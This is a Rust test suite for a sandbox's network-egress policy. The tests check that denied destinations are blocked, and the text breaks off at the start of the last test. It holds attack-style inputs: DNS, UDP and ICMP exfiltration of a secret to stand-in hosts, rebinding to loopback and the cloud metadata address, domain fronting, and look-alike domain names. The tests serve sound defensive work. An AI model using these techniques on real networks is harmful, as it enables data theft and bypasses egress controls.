//! Network egress: one policed door, checked against a test "internet" (a network
//! namespace with recording servers, see `common/net.rs`). Every attack checks what the
//! SERVERS saw afterwards, not only exit codes, and has a legitimate twin.
use crate::common;

use common::net::*;
use common::*;
use std::fs;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::Stdio;
use std::time::Duration;

/// A bash snippet running curl, its output framed by `<<label` / `>>label` with the HTTP
/// code (`CODE=`) and curl's exit status (`EXIT=`).
fn curl(label: &str, args: &str) -> String {
    format!(
        "echo '<<{label}'; curl -sS --max-time 15 -w '\\nCODE=%{{http_code}}\\n' {args} 2>&1; \
         echo \"EXIT=$?\"; echo '>>{label}'\n"
    )
}

/// The framed output of one [`curl`] snippet.
fn section<'a>(out: &'a Out, label: &str) -> &'a str {
    let start = format!("<<{label}\n");
    let end = format!(">>{label}");
    let Some(a) = out.stdout.find(&start) else {
        panic!(
            "no output for {label}: the script died early\n{}",
            out.show()
        );
    };
    let rest = &out.stdout[a + start.len()..];
    match rest.find(&end) {
        Some(b) => &rest[..b],
        None => rest,
    }
}

/// The HTTP status curl reported in a section ("000" when there was no response).
fn code(sec: &str) -> &str {
    sec.lines()
        .rev()
        .find_map(|l| l.strip_prefix("CODE="))
        .unwrap_or("none")
}

fn assert_code(out: &Out, label: &str, want: &str, why: &str) {
    let sec = section(out, label);
    assert_eq!(
        code(sec),
        want,
        "{why}: {label} should get HTTP {want}\n--- {label} ---\n{sec}\n{}",
        out.show()
    );
}

fn tok(prefix: &str) -> String {
    format!("/{prefix}-{}", unique())
}

// ---------------------------------------------------------------- environment

#[test]
fn proxy_env_and_resolver() {
    let Some(t) = NetTest::new("env") else { return };
    let pol = t.std_policy(&[NAME], &[CIDR_ALL], &[]);
    let out = t.sh(
        &["-p", &pol],
        "env | grep -i -E '^(https?|all|no)_proxy=' | sort; echo ---; cat /etc/resolv.conf",
    );
    assert_eq!(out.code, 0, "{}", out.show());
    let (env, resolv) = out.stdout.split_once("---").unwrap_or((&out.stdout, ""));
    for want in [
        "HTTP_PROXY=http://127.0.0.1:3128",
        "HTTPS_PROXY=http://127.0.0.1:3128",
        "http_proxy=http://127.0.0.1:3128",
        "https_proxy=http://127.0.0.1:3128",
        "ALL_PROXY=socks5h://127.0.0.1:1080",
        "all_proxy=socks5h://127.0.0.1:1080",
        "NO_PROXY=localhost,127.0.0.1,::1",
        "no_proxy=localhost,127.0.0.1,::1",
    ] {
        assert!(
            env.lines().any(|l| l == want),
            "inside the sandbox {want} is missing\n{}",
            out.show()
        );
    }
    let servers: Vec<&str> = resolv
        .lines()
        .map(str::trim)
        .filter(|l| l.starts_with("nameserver"))
        .collect();
    assert_eq!(
        servers,
        vec!["nameserver 127.0.0.1"],
        "the sandbox's resolv.conf must name only cordon's stub\n{}",
        out.show()
    );
}

// ---------------------------------------------------------------- allowed paths

#[test]
fn http_proxy_allowed() {
    let Some(t) = NetTest::new("http-allowed") else {
        return;
    };
    let pol = t.std_policy(&[NAME], &[CIDR_ALL], &[]);
    let (a, b) = (tok("curl"), tok("urllib"));
    let script = format!(
        "{}python3 -c \"import urllib.request as u; print('URLLIB', u.urlopen('http://{NAME}{b}', timeout=15).read().decode())\"",
        curl("curl", &format!("http://{NAME}{a}"))
    );
    let out = t.sh(&["-p", &pol], &script);
    assert_code(&out, "curl", "200", "an allowed name via HTTP_PROXY");
    assert!(
        section(&out, "curl").contains(&format!("cordon-it-ok path={a}")),
        "{}",
        out.show()
    );
    assert!(
        out.stdout
            .contains(&format!("URLLIB cordon-it-ok path={b}")),
        "python urllib via HTTP_PROXY to an allowed name must work\n{}",
        out.show()
    );
    let r = t.assert_request("http", &a, &out.show());
    assert_eq!(r["host"], NAME, "the server must see the allowed Host: {r}");
    t.assert_request("http", &b, &out.show());
}

#[test]
fn https_connect_allowed() {
    let Some(t) = NetTest::new("https-allowed") else {
        return;
    };
    let pol = t.std_policy(&[NAME], &[CIDR_ALL], &[]);
    let a = tok("tls");
    let out = t.sh(
        &["-p", &pol],
        &curl("tls", &format!("--cacert ca.pem https://{NAME}{a}")),
    );
    assert_code(
        &out,
        "tls",
        "200",
        "an allowed name via HTTPS_PROXY (CONNECT)",
    );
    let r = t.assert_request("https", &a, &out.show());
    assert_eq!(r["sni"], NAME, "the server must see the allowed SNI: {r}");
}

#[test]
fn socks5_allowed() {
    let Some(t) = NetTest::new("socks-allowed") else {
        return;
    };
    let pol = t.std_policy(&[NAME], &[CIDR_ALL], &[]);
    let (a, b) = (tok("socks-http"), tok("socks-tls"));
    let script = format!(
        "{}{}",
        curl("http", &format!("-x \"$ALL_PROXY\" http://{NAME}{a}")),
        curl(
            "tls",
            &format!("--socks5-hostname 127.0.0.1:1080 --cacert ca.pem https://{NAME}{b}")
        )
    );
    let out = t.sh(&["-p", &pol], &script);
    assert_code(&out, "http", "200", "plain HTTP through SOCKS5 (socks5h)");
    assert_code(&out, "tls", "200", "HTTPS through SOCKS5 (socks5h)");
    t.assert_request("http", &a, &out.show());
    let r = t.assert_request("https", &b, &out.show());
    assert_eq!(r["sni"], NAME, "{r}");
}

#[test]
fn plain_socket_allowed_transparently() {
    let Some(t) = NetTest::new("plain-allowed") else {
        return;
    };
    let pol = t.std_policy(&[NAME], &[CIDR_ALL], &[]);
    let (a, b, c) = (tok("plain4"), tok("plain-tls"), tok("plain6"));
    let script = format!(
        r#"
attempt("a4", lambda: socket.getaddrinfo("{NAME}", 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0])
attempt("get4", plain_get, "{NAME}", 80, "{a}")
attempt("tls", lambda: tls_get(socket.create_connection(("{NAME}", 443), timeout=10), "{NAME}", "{b}"))
attempt("a6", lambda: socket.getaddrinfo("{NAME}", 80, socket.AF_INET6, socket.SOCK_STREAM)[0][4][0])
attempt("get6", plain_get, "{NAME}", 80, "{c}", None, socket.AF_INET6)
"#
    );
    let r = t.py(&["-p", &pol], &script);
    r.assert_ok(
        "a4",
        "ok:240.",
        "the stub must answer an allowed name with a synthetic 240/8 address",
    );
    r.assert_ok(
        "get4",
        &format!("cordon-it-ok path={a}"),
        "plain TCP to an allowed name",
    );
    r.assert_ok(
        "tls",
        &format!("cordon-it-ok path={b}"),
        "plain TLS to an allowed name",
    );
    t.assert_request("http", &a, &r.show());
    let h = t.assert_request("https", &b, &r.show());
    assert_eq!(h["sni"], NAME, "{h}");
    r.assert_ok(
        "a6",
        "ok:fd63:6f72:646f:6e00:",
        "AAAA answers must be synthetic too",
    );
    r.assert_ok(
        "get6",
        &format!("cordon-it-ok path={c}"),
        "plain TCP over IPv6 to an allowed name",
    );
    t.assert_request("http", &c, &r.show());
}

// ---------------------------------------------------------------- denied names

#[test]
fn denied_and_unknown_names_get_403() {
    let Some(t) = NetTest::new("denied-name") else {
        return;
    };
    // Denied names point at an address of their own, so "nothing reached it" is exact.
    let deny_ip = t.net.alloc();
    let pol = t.std_policy(
        &[NAME, "blocked.test.example"],
        &[CIDR_ALL],
        &[
            ("blocked.test.example", &deny_ip),
            ("unknown.test.example", &deny_ip),
        ],
    );
    let (a, b, c, ok) = (tok("deny"), tok("unknown"), tok("deny-tls"), tok("twin"));
    let script = format!(
        "{}{}{}{}python3 -c 'import socket\ntry:\n  socket.create_connection((\"blocked.test.example\", 80), timeout=10); print(\"PLAIN connected\")\nexcept Exception as e:\n  print(\"PLAIN failed\", e)\n'",
        curl("deny", &format!("http://blocked.test.example{a}")),
        curl("unknown", &format!("http://unknown.test.example{b}")),
        curl("tls", &format!("--cacert ca.pem https://blocked.test.example{c}")),
        curl("twin", &format!("http://{NAME}{ok}")),
    );
    let out = t.sh(
        &["-p", &pol, "--deny-domain", "blocked.test.example"],
        &script,
    );
    assert_code(&out, "deny", "403", "a denied name (deny beats allow)");
    let body = section(&out, "deny");
    assert!(
        body.contains("blocked.test.example") && body.contains("--deny-domain"),
        "the 403 body must name the destination and the rule that refused it\n{body}"
    );
    assert_code(&out, "unknown", "403", "a name no rule mentions");
    let body = section(&out, "unknown");
    assert!(
        body.contains("unknown.test.example")
            && (body.contains("--allow-domain") || body.contains("[network]")),
        "the 403 body must name the destination and what would allow it\n{body}"
    );
    assert!(
        !section(&out, "tls").contains("CODE=200"),
        "HTTPS to a denied name must fail\n{}",
        out.show()
    );
    assert!(
        out.stdout.contains("PLAIN failed") && !out.stdout.contains("PLAIN connected"),
        "a plain socket to a denied name must fail\n{}",
        out.show()
    );
    assert_code(&out, "twin", "200", "the allowed twin in the same run");
    t.assert_request("http", &ok, &out.show());
    let seen = t.net.seen_by(&deny_ip);
    assert!(
        seen.is_empty(),
        "the server behind the denied names was reached:\n{}\n{}",
        show_records(&seen),
        out.show()
    );
}

// ---------------------------------------------------------------- raw IPs

fn decimal_ip(ip: &str) -> u32 {
    ip.split('.')
        .filter_map(|o| o.parse::<u32>().ok())
        .fold(0, |acc, o| acc << 8 | o)
}

#[test]
fn raw_ip_and_special_range_denied_without_allow_cidrs() {
    let Some(t) = NetTest::new("raw-ip-denied") else {
        return;
    };
    let pol = t.std_policy(&[NAME], &[], &[]);
    let ip = t.ip.clone();
    let script = format!(
        "{}{}{}{}",
        curl("ip", &format!("http://{ip}/raw")),
        curl("decimal", &format!("http://{}/raw-dec", decimal_ip(&ip))),
        curl("mapped", &format!("-g 'http://[::ffff:{ip}]/raw-mapped'")),
        curl("name", &format!("http://{NAME}/name-in-special-range")),
    );
    let out = t.sh(&["-p", &pol], &script);
    for l in ["ip", "decimal", "mapped", "name"] {
        assert_code(
            &out,
            l,
            "403",
            "a raw IP / a name resolving into 198.18.0.0/15 needs allow_cidrs",
        );
    }
    let body = section(&out, "name");
    assert!(
        body.contains("allow_cidrs"),
        "the 403 body must say which allow_cidrs entry would allow it\n{body}"
    );
    // Proxy-unaware: the connection may be refused, or accepted and reset once checked,
    // but no response may come back and nothing may reach the server.
    let r = t.py(
        &["-p", &pol],
        &format!(
            r#"
attempt("plain_ip", plain_get, "{ip}", 80, "/plain-raw")
attempt("plain_name", plain_get, "{NAME}", 80, "/plain-name")
"#
        ),
    );
    r.assert_fails_fast("plain_ip", "plain socket to a raw IP in a special range");
    r.assert_fails_fast(
        "plain_name",
        "plain socket to a name resolving into a special range",
    );
    t.assert_nothing_reached(
        "raw IP / special range without allow_cidrs",
        &format!("{}\n{}", out.show(), r.show()),
    );
}

/// An `allow_cidrs` entry without a port only lifts the special-range refusal: a name its
/// rule allows on port 7 that resolves into the range is admitted on 7, while the same address
/// as an IP literal keeps the default ports.
#[test]
fn allow_cidrs_without_port_admits_an_allowed_name_on_its_rule_port() {
    let Some(t) = NetTest::new("cidr-name-port") else {
        return;
    };
    let pol = t.std_policy(&[&format!("{NAME}:7")], &["198.18.0.0/15"], &[]);
    let ip = t.ip.clone();
    let script = format!(
        r#"
attempt("connect", lambda: echo(proxy_connect("{NAME}", 7), b"cidr-name-connect"))
attempt("plain", lambda: echo(socket.create_connection(("{NAME}", 7), timeout=10), b"cidr-name-plain"))
attempt("rawip", lambda: echo(tcp("{ip}", 7), b"cidr-raw-ip-7"))
attempt("other", lambda: echo(socket.create_connection(("{OTHER_NAME}", 7), timeout=10), b"cidr-other-7"))
"#
    );
    let r = t.py(&["-p", &pol], &script);
    for (k, w) in [
        ("connect", "cidr-name-connect"),
        ("plain", "cidr-name-plain"),
    ] {
        r.assert_ok(k, w, "a name allowed on :7 resolving into a listed range");
        assert!(
            t.wait_seen(|x| x["srv"] == "echo" && x["data"] == w),
            "the echo server never received {w}\n{}",
            r.show()
        );
    }
    r.assert_fails_fast("rawip", "an IP literal in the range keeps ports 80 and 443");
    r.assert_fails_fast("other", "a name with no rule for :7 is refused");
    let seen = t.seen();
    let leaked: Vec<_> = seen
        .iter()
        .filter(|x| x["data"] == "cidr-raw-ip-7" || x["data"] == "cidr-other-7")
        .collect();
    assert!(
        leaked.is_empty(),
        "refused attempts reached the server: {leaked:?}"
    );
}

#[test]
fn raw_ip_allowed_with_allow_cidrs_twin() {
    let Some(t) = NetTest::new("raw-ip-allowed") else {
        return;
    };
    // Without a port the CIDR entry admits 80 and 443 only.
    let pol = t.std_policy(&[], &["198.18.0.0/15"], &[]);
    let ip = t.ip.clone();
    let (a, b) = (tok("raw-proxy"), tok("raw-plain"));
    let script = format!(
        r#"
attempt("plain", plain_get, "{ip}", 80, "{b}")
attempt("port7", lambda: echo(tcp("{ip}", 7), b"odd-port"))
"#
    );
    let out = t.sh(&["-p", &pol], &curl("proxy", &format!("http://{ip}{a}")));
    assert_code(
        &out,
        "proxy",
        "200",
        "raw IP listed in allow_cidrs, via the proxy",
    );
    t.assert_request("http", &a, &out.show());
    let r = t.py(&["-p", &pol], &script);
    r.assert_ok(
        "plain",
        &format!("path={b}"),
        "plain socket to a raw IP listed in allow_cidrs",
    );
    t.assert_request("http", &b, &r.show());
    r.assert_fails_fast("port7", "allow_cidrs without a port admits only 80 and 443");
    let seen = t.seen();
    let odd: Vec<_> = seen
        .iter()
        .filter(|r| r["dport"] == 7 || r["srv"] == "echo")
        .collect();
    assert!(odd.is_empty(), "port 7 was reached: {odd:?}\n{}", r.show());
}

// ---------------------------------------------------------------- rebinding

#[test]
fn rebinding_to_loopback_or_metadata_denied() {
    let Some(t) = NetTest::new("rebind") else {
        return;
    };
    let host = HostListener::start();
    let p = host.port;
    let loop_rule = format!("loop.test.example:{p}");
    let pol = t.std_policy(
        &[NAME, &loop_rule, "meta.test.example"],
        &[CIDR_ALL],
        &[
            ("loop.test.example", "127.0.0.1"),
            ("meta.test.example", "169.254.169.254"),
        ],
    );
    let ok = tok("twin");
    let script = format!(
        "{}{}{}python3 -c 'import socket\ntry:\n  s=socket.create_connection((\"loop.test.example\",{p}),timeout=10); s.sendall(b\"rebind-plain\"); print(\"PLAIN got\", s.recv(100) or b\"nothing\")\nexcept Exception as e:\n  print(\"PLAIN failed\", type(e).__name__)\n'\n",
        curl("loop", &format!("http://loop.test.example:{p}/rebind-proxy")),
        curl("meta", "http://meta.test.example/latest/meta-data/"),
        curl("twin", &format!("http://{NAME}{ok}")),
    );
    let out = t.sh(&["-p", &pol], &script);
    assert_code(&out, "loop", "403", "an allowed name mapped to 127.0.0.1");
    assert_code(
        &out,
        "meta",
        "403",
        "an allowed name mapped to 169.254.169.254",
    );
    assert!(
        out.stdout.contains("PLAIN failed") || out.stdout.contains("PLAIN got b'nothing'"),
        "a plain socket to an allowed name that resolves to loopback must fail\n{}",
        out.show()
    );
    assert_code(&out, "twin", "200", "the allowed twin in the same run");
    t.assert_request("http", &ok, &out.show());
    let hits = host.hits();
    assert!(
        hits.is_empty(),
        "the HOST's 127.0.0.1:{p} was reached through a rebound name: {hits:?}\n{}",
        out.show()
    );
}

// ---------------------------------------------------------------- fronting

#[test]
fn fronting_denied_before_upstream() {
    let Some(t) = NetTest::new("fronting") else {
        return;
    };
    // OTHER_NAME maps to the same server (its certificate covers both) but is not allowed.
    let pol = t.std_policy(&[NAME], &[CIDR_ALL], &[]);
    let [a, b, c, d, e, f, g, h] = [
        "f-connect",
        "f-socks",
        "f-plain",
        "f-host80",
        "f-abs",
        "ok-connect",
        "ok-socks",
        "ok-plain",
    ]
    .map(tok);
    let script = format!(
        r#"
attempt("connect", lambda: tls_get(proxy_connect("{NAME}", 443), "{OTHER_NAME}", "{a}"))
attempt("socks", lambda: tls_get(socks_connect("{NAME}", 443), "{OTHER_NAME}", "{b}"))
attempt("plain", lambda: tls_get(socket.create_connection(("{NAME}", 443), timeout=10), "{OTHER_NAME}", "{c}"))
attempt("host80", lambda: http_over(proxy_connect("{NAME}", 80), "{OTHER_NAME}", "{d}"))
def absolute():
    s = tcp("127.0.0.1", 3128)
    s.sendall(b"GET http://{NAME}{e} HTTP/1.1\r\nHost: {OTHER_NAME}\r\nConnection: close\r\n\r\n")
    return status(recv_all(s).decode("latin1"))
attempt("abs", absolute)
attempt("ok_connect", lambda: tls_get(proxy_connect("{NAME}", 443), "{NAME}", "{f}"))
attempt("ok_socks", lambda: tls_get(socks_connect("{NAME}", 443), "{NAME}", "{g}"))
attempt("ok_plain", lambda: tls_get(socket.create_connection(("{NAME}", 443), timeout=10), "{NAME}", "{h}"))
"#
    );
    let r = t.py(&["-p", &pol], &script);
    for k in ["connect", "socks", "plain", "host80", "abs"] {
        let v = r.get(k);
        assert!(
            !v.contains("cordon-it-ok") && !v.contains(" 200"),
            "fronting via {k} (allowed target, other name in SNI/Host) must be denied, got {v:?}\n{}",
            r.show()
        );
    }
    for (k, p) in [("ok_connect", &f), ("ok_socks", &g), ("ok_plain", &h)] {
        r.assert_ok(k, &format!("path={p}"), "matching SNI (twin)");
    }
    let seen = t.seen();
    let fronted: Vec<_> = seen
        .iter()
        .filter(|x| x["sni"] == OTHER_NAME || x["host"] == OTHER_NAME)
        .collect();
    assert!(
        fronted.is_empty(),
        "the server saw the fronted name: {fronted:?}\n{}",
        r.show()
    );
    // Only the three twins may have opened a connection to the server at all.
    let syns_443 = seen
        .iter()
        .filter(|x| x["srv"] == "pkt" && x["dport"] == 443)
        .count();
    let syns_80 = seen
        .iter()
        .filter(|x| x["srv"] == "pkt" && x["dport"] == 80)
        .count();
    // CONNECT and SOCKS5 connect before they answer (so an unreachable destination is
    // reported as such), but send nothing before the check: their two fronting attempts to
    // :443 and the one to :80 may have opened a connection, and no more; the transparent one
    // is checked before it connects.
    assert!(
        syns_443 == 5 && syns_80 == 1,
        "unexpected connections to the server ({syns_443} to :443, expected the 3 twins and \
         the 2 proxied attempts; {syns_80} to :80, expected 1):\n{}\n{}",
        show_records(&seen),
        r.show()
    );
    let data: Vec<_> = seen
        .iter()
        // A connection closed before any byte is a `tls-fail` at EOF with no SNI seen.
        .filter(|x| {
            x["ev"] == "handshake"
                || x["ev"] == "request"
                || (x["ev"] == "tls-fail" && !x["sni"].is_null())
        })
        .filter(|x| {
            !x["path"]
                .as_str()
                .is_some_and(|p| [&f, &g, &h].iter().any(|t| t.as_str() == p))
        })
        .filter(|x| x["sni"] != NAME)
        .collect();
    assert!(
        data.is_empty(),
        "a fronting attempt sent bytes to the server: {data:?}\n{}",
        r.show()
    );
}

const KEEPALIVE_PY: &str = r#"
def response(s):
    head = b""
    while b"\r\n\r\n" not in head:
        d = s.recv(1)
        if not d:
            raise ConnectionError("closed: %r" % head)
        head += d
    n = 0
    for l in head.split(b"\r\n"):
        k, _, v = l.partition(b":")
        if k.strip().lower() == b"content-length":
            n = int(v)
    return (head + recv_n(s, n)).decode("latin1")
def two_requests(s, host1, path1, host2, path2):
    s.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: keep-alive\r\n\r\n" % (path1, host1)).encode())
    first = status(response(s))
    s.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: keep-alive\r\n\r\n" % (path2, host2)).encode())
    try:
        second = status(response(s))
    except (ConnectionError, OSError) as e:
        second = "closed (%s)" % type(e).__name__
    s.close()
    return first + " | " + second
"#;

#[test]
fn keep_alive_requests_are_each_checked() {
    let Some(t) = NetTest::new("keepalive") else {
        return;
    };
    let pol = t.std_policy(&[NAME], &[CIDR_ALL], &[]);
    let [a1, a2, b1, b2, c1, c2, d1, d2] = [
        "ka-c1", "ka-c2", "ka-p1", "ka-p2", "ok-c1", "ok-c2", "ok-p1", "ok-p2",
    ]
    .map(tok);
    let script = format!(
        r#"{KEEPALIVE_PY}
attempt("connect", lambda: two_requests(proxy_connect("{NAME}", 80), "{NAME}", "{a1}", "{OTHER_NAME}", "{a2}"))
attempt("plain", lambda: two_requests(socket.create_connection(("{NAME}", 80), timeout=10), "{NAME}", "{b1}", "{OTHER_NAME}", "{b2}"))
attempt("ok_connect", lambda: two_requests(proxy_connect("{NAME}", 80), "{NAME}", "{c1}", "{NAME}", "{c2}"))
attempt("ok_plain", lambda: two_requests(socket.create_connection(("{NAME}", 80), timeout=10), "{NAME}", "{d1}", "{NAME}", "{d2}"))
"#
    );
    let r = t.py(&["-p", &pol], &script);
    for k in ["connect", "plain"] {
        let v = r.get(k);
        assert!(
            v.starts_with("ok:HTTP/1.1 200") && !v.contains("| HTTP/1.1 200"),
            "{k}: the second request, naming another host, must be refused, got {v:?}\n{}",
            r.show()
        );
    }
    for k in ["ok_connect", "ok_plain"] {
        r.assert_ok(
            k,
            "HTTP/1.1 200 OK | HTTP/1.1 200 OK",
            "a keep-alive session to one allowed host (twin)",
        );
    }
    for p in [&a1, &b1, &c1, &c2, &d1, &d2] {
        t.assert_request("http", p, &r.show());
    }
    for p in [&a2, &b2] {
        t.assert_no_request(p, &r.show());
    }
    let seen = t.seen();
    assert!(
        !seen.iter().any(|x| x["host"] == OTHER_NAME),
        "the server saw the other host: {}\n{}",
        show_records(&seen),
        r.show()
    );
}

#[test]
fn unreachable_allowed_destination_is_explained() {
    let Some(t) = NetTest::new("unreachable") else {
        return;
    };
    // gone.invalid is allowed but has no address anywhere.
    let pol = t.std_policy(&[NAME, "gone.invalid"], &[CIDR_ALL], &[]);
    let ok = tok("reach-twin");
    let script = format!(
        "{}{}{}python3 -c 'import socket\ntry:\n  s = socket.create_connection((\"gone.invalid\", 443), timeout=10); s.sendall(b\"x\"); print(\"PLAIN\", s.recv(10))\nexcept Exception as e:\n  print(\"PLAIN failed\", type(e).__name__)\n'\n{}",
        curl("connect", "--cacert ca.pem https://gone.invalid/x"),
        curl("socks", "--socks5-hostname 127.0.0.1:1080 --cacert ca.pem https://gone.invalid/y"),
        curl("npm", "http://registry.npmjs.org/left-pad"),
        curl("twin", &format!("http://{NAME}{ok}")),
    );
    let out = t.sh(&["-p", &pol], &script);
    let connect = section(&out, "connect");
    assert!(
        connect.contains("502") && !connect.contains("SSL_ERROR_SYSCALL"),
        "CONNECT to an unreachable allowed name must be answered 502, not 200 then a hang-up\n{}",
        out.show()
    );
    let socks = section(&out, "socks");
    assert!(
        !socks.contains("CODE=200") && socks.contains("EXIT=97"),
        "SOCKS5 must refuse with its host-unreachable reply (curl exit 97)\n{}",
        out.show()
    );
    assert!(out.stdout.contains("PLAIN failed"), "{}", out.show());
    // A host a built-in profile covers: the fix names the profile.
    let npm = section(&out, "npm");
    assert!(
        npm.contains("CODE=403") && npm.contains("--profile npm"),
        "the 403 for registry.npmjs.org must suggest --profile npm\n{npm}"
    );
    assert_code(
        &out,
        "twin",
        "200",
        "the reachable allowed name in the same run",
    );
    t.assert_request("http", &ok, &out.show());
    assert!(
        out.stderr.contains("allowed connections failed"),
        "the exit line counts the failures\n{}",
        out.show()
    );
    let log = t.sb.cordon(&["log"]);
    assert!(
        log.stdout.contains("allowed, but could not be reached:")
            && log.stdout.contains("gone.invalid:443")
            && log.stdout.contains("--profile npm"),
        "{}",
        log.show()
    );
}

// ---------------------------------------------------------------- ports

#[test]
fn odd_port_denied_without_port_rule() {
    let Some(t) = NetTest::new("odd-port") else {
        return;
    };
    let pol = t.std_policy(&[NAME], &[CIDR_ALL], &[]);
    let script = format!(
        r#"
attempt("connect", lambda: echo(proxy_connect("{NAME}", 7), b"odd-connect"))
attempt("socks", lambda: echo(socks_connect("{NAME}", 7), b"odd-socks"))
attempt("plain", lambda: echo(socket.create_connection(("{NAME}", 7), timeout=10), b"odd-plain"))
"#
    );
    let r = t.py(&["-p", &pol], &script);
    for k in ["connect", "socks", "plain"] {
        r.assert_fails_fast(k, "a rule without a port admits only 80 and 443");
    }
    t.assert_nothing_reached("port 7 without a port rule", &r.show());
}

#[test]
fn odd_port_allowed_with_port_rule_twin() {
    let Some(t) = NetTest::new("odd-port-ok") else {
        return;
    };
    let pol = t.std_policy(&[], &[CIDR_ALL], &[]);
    let script = format!(
        r#"
attempt("connect", lambda: echo(proxy_connect("{NAME}", 7), b"odd-connect"))
attempt("socks", lambda: echo(socks_connect("{NAME}", 7), b"odd-socks"))
attempt("plain", lambda: echo(socket.create_connection(("{NAME}", 7), timeout=10), b"odd-plain"))
attempt("any", lambda: echo(socket.create_connection(("{OTHER_NAME}", 7), timeout=10), b"odd-any"))
"#
    );
    let r = t.py(
        &[
            "-p",
            &pol,
            "--allow-domain",
            &format!("{NAME}:7"),
            "--allow-domain",
            &format!("{OTHER_NAME}:*"),
        ],
        &script,
    );
    for (k, w) in [
        ("connect", "odd-connect"),
        ("socks", "odd-socks"),
        ("plain", "odd-plain"),
        ("any", "odd-any"),
    ] {
        r.assert_ok(k, w, "an explicit :7 / :* rule admits port 7");
        assert!(
            t.wait_seen(|x| x["srv"] == "echo" && x["data"] == w),
            "the echo server never received {w}\n{}",
            r.show()
        );
    }
}

// ---------------------------------------------------------------- name matching

#[test]
fn lookalike_names_case_and_trailing_dot() {
    let Some(t) = NetTest::new("lookalike") else {
        return;
    };
    let bad_ip = t.net.alloc();
    let pol = t.std_policy(
        &[NAME, "*.w.test.example"],
        &[CIDR_ALL],
        &[
            ("api.test.example.evil.test", &bad_ip),
            ("evilapi.test.example", &bad_ip),
            ("w.test.example", &bad_ip),
            ("a.b.w.test.example", &t.ip),
        ],
    );
    let bad = [
        (
            "suffix",
            "http://api.test.example.evil.test/suffix".to_string(),
        ),
        ("prefix", "http://evilapi.test.example/prefix".to_string()),
        ("apex", "http://w.test.example/apex".to_string()),
        (
            "userinfo",
            "http://api.test.example:80@evilapi.test.example/userinfo".to_string(),
        ),
    ];
    let (case, dot, deep) = (tok("case"), tok("dot"), tok("deep"));
    let good = [
        ("case", format!("http://API.Test.EXAMPLE{case}")),
        ("dot", format!("http://api.test.example.{dot}")),
        ("deep", format!("http://a.b.w.test.example{deep}")),
    ];
    let mut script = String::new();
    for (l, u) in bad.iter().chain(good.iter()) {
        script.push_str(&curl(l, &format!("'{u}'")));
    }
    script.push_str(&format!(
        "python3 -c '{}'\n",
        "import socket\nfor n in (\"api.test.example.evil.test\",\"evilapi.test.example\",\"w.test.example\",\"API.TEST.EXAMPLE.\"):\n  try:\n    print(\"RESOLVE\", n, socket.getaddrinfo(n, 80, socket.AF_INET)[0][4][0])\n  except Exception as e:\n    print(\"RESOLVE\", n, \"failed\")\n"
    ));
    let out = t.sh(&["-p", &pol], &script);
    for (l, _) in &bad {
        assert_code(&out, l, "403", "a look-alike of an allowed name");
    }
    for (l, _) in &good {
        assert_code(
            &out,
            l,
            "200",
            "case and one trailing dot are ignored; *. covers any depth",
        );
    }
    for p in [&case, &dot, &deep] {
        t.assert_request("http", p, &out.show());
    }
    for n in [
        "api.test.example.evil.test",
        "evilapi.test.example",
        "w.test.example",
    ] {
        assert!(
            out.stdout.contains(&format!("RESOLVE {n} failed")),
            "the DNS stub must not answer the look-alike {n}\n{}",
            out.show()
        );
    }
    assert!(
        out.stdout.contains("RESOLVE API.TEST.EXAMPLE. 240."),
        "the stub must answer the allowed name in another case with a trailing dot\n{}",
        out.show()
    );
    let seen = t.net.seen_by(&bad_ip);
    assert!(
        seen.is_empty(),
        "a look-alike name reached its server:\n{}\n{}",
        show_records(&seen),
        out.show()
    );
}

// ---------------------------------------------------------------- UDP, DNS, ICMP

#[test]
fn udp_dns_exfiltration_and_icmp_blocked() {
    let Some(t) = NetTest::new("udp-dns") else {
        return;
    };
    let pol = t.std_policy(&[NAME], &[CIDR_ALL], &[]);
    let ip = t.ip.clone();
    let secret = format!("secret-{}", unique());
    let script = format!(
        r#"
def udp_send(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(b"udp-{secret}", ("{ip}", port))
    return "sent (and %r)" % (s.recv(100),)
attempt("udp53", udp_send, 53)
attempt("udp9", udp_send, 9)
attempt("stub_exfil", dns_query, "{secret}.exfil.test")
attempt("stub_exfil_txt", dns_query, "{secret}.exfil.test", 16)
attempt("direct_dns", dns_query, "{secret}.direct.test", 1, ("{ip}", 53))
attempt("gai", lambda: socket.getaddrinfo("{secret}.gai.test", 80))
attempt("allowed_txt", dns_query, "{NAME}", 16)
attempt("allowed_a", dns_query, "{NAME}")
def ping():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.settimeout(2)
    s.sendto(b"\x08\x00\x00\x00\x00\x01\x00\x01icmp-{secret}", ("{ip}", 0))
    return s.recv(100)
attempt("ping", ping)
def raw_ping():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.settimeout(2)
    s.sendto(b"\x08\x00\xf7\xfe\x00\x01\x00\x00", ("{ip}", 0))
    return s.recv(100)
attempt("raw_ping", raw_ping)
"#
    );
    let r = t.py(&["-p", &pol], &script);
    for k in ["udp53", "udp9", "direct_dns", "ping", "raw_ping"] {
        assert!(
            !r.get(k).starts_with("ok:"),
            "{k}: UDP/ICMP to a server outside must not get an answer, got {:?}\n{}",
            r.get(k),
            r.show()
        );
    }
    for k in ["stub_exfil", "stub_exfil_txt"] {
        let v = r.get(k);
        assert!(
            v.starts_with("ok:rcode=3 ") || v.starts_with("ok:rcode=5 "),
            "{k}: the stub must answer a denied name with NXDOMAIN or REFUSED at once, got {v:?}\n{}",
            r.show()
        );
    }
    assert!(r.get("gai").starts_with("err:"), "{}", r.show());
    let txt = r.get("allowed_txt");
    assert!(
        !txt.starts_with("ok:") || txt.contains(" an=0 "),
        "TXT for an allowed name must be refused or empty, got {txt:?}\n{}",
        r.show()
    );
    r.assert_ok(
        "allowed_a",
        "addrs=240.",
        "twin: the stub answers an allowed A query",
    );
    t.assert_nothing_reached("UDP / DNS / ICMP from inside", &r.show());
    let leaked: Vec<_> = t
        .net
        .records()
        .into_iter()
        .filter(|x| x.to_string().contains(&secret))
        .collect();
    assert!(
        leaked.is_empty(),
        "the secret reached the test internet:\n{}",
        show_records(&leaked)
    );
}

// ---------------------------------------------------------------- --no-network, loopback

#[test]
fn no_network_means_loopback_only() {
    let Some(t) = NetTest::new("no-network") else {
        return;
    };
    let ip = t.ip.clone();
